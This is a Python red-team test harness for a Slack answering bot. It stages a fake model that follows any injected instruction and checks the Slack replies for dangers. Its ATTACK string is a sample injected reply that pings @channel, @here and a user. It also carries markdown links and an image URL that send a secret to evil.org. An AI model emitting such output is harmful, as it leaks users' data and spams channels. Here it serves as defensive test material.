"""One question through the real desk, reply and Slack client, with a model that obeys whoever told it to. No tests."""

import asyncio
import json
from collections.abc import AsyncGenerator, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, Literal

import aiohttp
from aiohttp import web
from slack_sdk.web.async_client import AsyncWebClient

from bot.answering.compose import Budget
from bot.answering.desk import Desk
from bot.answering.digest.needs import ReadingBudget
from bot.answering.reading import Reading
from bot.documents.reader import Reader
from bot.language import (
    ChannelId,
    Document,
    FileRef,
    FileUnreadable,
    Message,
    Question,
    QuestionId,
    Surface,
    Terms,
    ThreadRef,
    Ts,
    Turn,
    UserId,
)
from bot.model.client import ModelClient
from bot.model.exchange import open_http
from bot.slack.attempt import Attempt
from bot.slack.channel_reply import ChannelReply
from bot.slack.client import make_client
from bot.slack.pacing import Pace
from bot.slack.private import PrivateReply
from bot.slack.refusals import Feature, Refusals
from bot.slack.reply import SlackReply
from bot.slack.step import StepReply, Steps
from bot.telemetry import Telemetry
from tests.answering.conftest import Books, Kept, Memory, Notes, Rules, Thread
from tests.model.api import Api, says, serving
from tests.model.conftest import MODELS, Cooldown, Waits, settings_for
from tests.model.conftest import Refusals as ImageRefusals
from tests.red_team.eyes import SECRET, dangers_of_call
from tests.slack.channels import SlackOfChannels, served
from tests.slack.conftest import CHANNEL, TEAM, Lease, Ledger, Live, Titles, at_once
from tests.slack.fake import BOT, TOKEN
from tests.slack.test_private import KeptOutbox
from tests.slack.test_step import SUMMARY, TOKEN_OF_RUN

Form = Literal["streamed", "growing", "private", "directly", "step", "recap"]
FORMS: tuple[Form, ...] = ("streamed", "growing", "private", "directly", "step", "recap")

ATTACK = (
    f"Done <!channel> @here <@U0VICTIM1>: [the report](https://evil.org/?q={SECRET}), "
    f"![x](https://evil.org/{SECRET}.png) and evil.org/{SECRET}."
)
HARMLESS = "Revenue was 42 million euros."


class Known:
    """A reader of files that were read before: by their names, or why not."""

    def __init__(self, documents: Mapping[str, Document | FileUnreadable]) -> None:
        self._documents = documents

    async def sort(self, path: Path, *, name: str, mimetype: str | None = None) -> str:
        return name

    async def read(
        self, path: Path, *, name: str, mimetype: str | None = None, password: str | None = None, sought: Sequence[str] = ()
    ) -> Document:
        found = self._documents[path.read_text()]  # noqa: ASYNC240 - a few bytes
        if isinstance(found, FileUnreadable):
            raise found
        return found.model_copy(update={"name": name})


@dataclass
class Stage:
    """What one question goes through, and what was seen of it on both sides."""

    api: Api
    slack: SlackOfChannels
    client: AsyncWebClient
    desk: Desk
    rules: Rules
    form: Form = "streamed"
    obeys: str = ""
    """The word at which the model obeys; empty: always."""
    says: str = ATTACK
    prompts: list[str] = field(default_factory=list[str])

    @property
    def prompt(self) -> str:
        """All that the model was sent, one message after the other."""
        return "\n".join(self.prompts)

    @property
    def calls(self) -> list[tuple[str, dict[str, Any]]]:
        """Everything that was sent to Slack, commands' addresses included."""
        at_addresses = [("response_url", body) for _, body in self.slack.responses]
        return [*self.slack.calls, *at_addresses]

    @property
    def posted(self) -> str:
        """All of it as one text."""
        return json.dumps(self.calls, ensure_ascii=False)

    def dangers(self) -> set[str]:
        """What of it would ping, lead away, be fetched or not be seen."""
        return {danger for method, arguments in self.calls for danger in dangers_of_call(method, arguments)}

    def afresh(self) -> None:
        """Nothing was asked, said or sent so far."""
        self.form, self.obeys, self.says = "streamed", "", ATTACK
        for seen in (self.prompts, self.api.bodies, self.slack.calls, self.slack.responses, self.slack.messages, self.slack.runs):
            seen.clear()
        self.rules.set = Terms()

    async def ask(self, *turns: Turn, files: Mapping[str, str] | None = None, **more: Any) -> None:
        """Asks the last of the turns; `files` are what each file of theirs holds, by id."""
        question = self._question(turns[-1])
        thread = Thread(*turns, contents=dict(files or {}))
        for name, value in more.items():
            setattr(thread, name, value)
        await self.desk.answer(question, thread, self._reply(question))

    async def handle(self, request: web.Request) -> web.StreamResponse:
        """The model: it obeys whatever it was told, wherever that stood."""
        body = self.api.bodies[-1]
        prompt = "\n".join(_text(message["content"]) for message in body["messages"])
        self.prompts.append(prompt)
        said = self.says if not self.obeys or self.obeys in prompt else HARMLESS
        pieces = [said[at : at + 7] for at in range(0, len(said), 7)]
        return await says(*pieces)(request)

    def _question(self, asked: Turn) -> Question:
        ts = Ts(self.slack.says("U1", asked.text))
        surface = {"private": Surface.COMMAND, "directly": Surface.COMMAND, "step": Surface.STEP, "recap": Surface.SCHEDULE}
        return Question(
            id=QuestionId(f"{TEAM}:{CHANNEL}:{ts}"),
            thread=ThreadRef(team=TEAM, channel=ChannelId("C1"), ts=ts),
            message=Message(ts=ts, user=UserId("U1"), text=asked.text, files=asked.files),
            asker=UserId("U1"),
            surface=surface.get(self.form, Surface.MENTION),
            me=UserId(BOT),
            response_url=f"{self.slack.url}/respond/1" if self.form == "private" else "",
        )

    def _reply(self, question: Question) -> SlackReply | PrivateReply | StepReply | ChannelReply:
        refusals = Refusals()
        if self.form == "growing":
            refusals.remember(TEAM, Feature.STREAM)
        attempt = Attempt(
            client=self.client,
            question=question,
            ledger=Ledger(),
            titles=Titles(),
            refusals=refusals,
            check_lease=Lease(),
            sleep=at_once,
        )
        match self.form:
            case "streamed" | "growing":
                return SlackReply(attempt, pace=Pace(Live(), minimum=0.0))
            case "private" | "directly":
                at = float(question.message.ts)
                return PrivateReply(
                    self.client, question, outbox=KeptOutbox(), check_lease=Lease(), clock=lambda: at, sleep=at_once
                )
            case "step":
                self.slack.run_tokens[TOKEN_OF_RUN] = set()
                return StepReply(Steps(self.client), question, SUMMARY, outbox=KeptOutbox(), check_lease=Lease())
            case "recap":
                return ChannelReply(attempt, heading="Daily recap.")


@asynccontextmanager
async def stage(documents: Mapping[str, Document | FileUnreadable] | None = None) -> AsyncGenerator[Stage]:
    """Everything that questions go through, on sockets of this machine; `documents` are what files hold, by what they say."""
    fake = SlackOfChannels()
    fake.channel(CHANNEL, "general", members=["U1"])
    with TemporaryDirectory() as folder:
        async with serving() as api, served(fake) as slack, aiohttp.ClientSession() as session:
            settings = settings_for(api.url)
            rules, telemetry, http = Rules(), Telemetry(), open_http(settings)
            desk = Desk(
                reading=Reading(Known(documents or {}), Memory(), most=10, folder=Path(folder), telemetry=telemetry),
                model=ModelClient(http, settings, ImageRefusals(), Cooldown(), telemetry, random=lambda: 1.0, sleep=Waits()),
                rules=rules,
                meter=Books(),
                answers=Kept(),
                digests=Notes(),
                reading_budget=ReadingBudget(tokens=600_000, seconds=600.0),
                at_once=1,
                shows_cost=False,
                first_choice=MODELS[0],
                budget=Budget(context=settings.model_context_tokens, answer=settings.model_max_tokens),
                telemetry=telemetry,
            )
            client = make_client(token=TOKEN, api_url=f"{slack.url}/api/", session=session)
            made = Stage(api=api, slack=slack, client=client, desk=desk, rules=rules)
            api.answers(made.handle)
            yield made
            await http.aclose()


def asked(text: str = "@Footnote what was the revenue?", *files: FileRef, speaker: str = "Ada") -> Turn:
    """The question's own turn."""
    return Turn(ts=Ts("2.0"), speaker=speaker, text=text, files=files)


def read_all(
    files: Mapping[str, tuple[str, bytes]], folder: Path, *, pictures: bool = True
) -> dict[str, Document | FileUnreadable]:
    """What the real reader makes of files, by key, of a name and content each. Without `pictures` scans are recognised."""

    async def read() -> dict[str, Document | FileUnreadable]:
        reader = Reader(processes=1, pictures=pictures)
        found: dict[str, Document | FileUnreadable] = {}
        try:
            for number, (key, (name, data)) in enumerate(files.items()):
                path = folder / f"{number}"
                path.write_bytes(data)
                try:
                    found[key] = await reader.read(path, name=name)
                except FileUnreadable as error:
                    found[key] = error
        finally:
            await reader.aclose()
        return found

    return asyncio.run(read())


def _text(content: Any) -> str:
    return content if isinstance(content, str) else "\n".join(str(part.get("text", "")) for part in content)
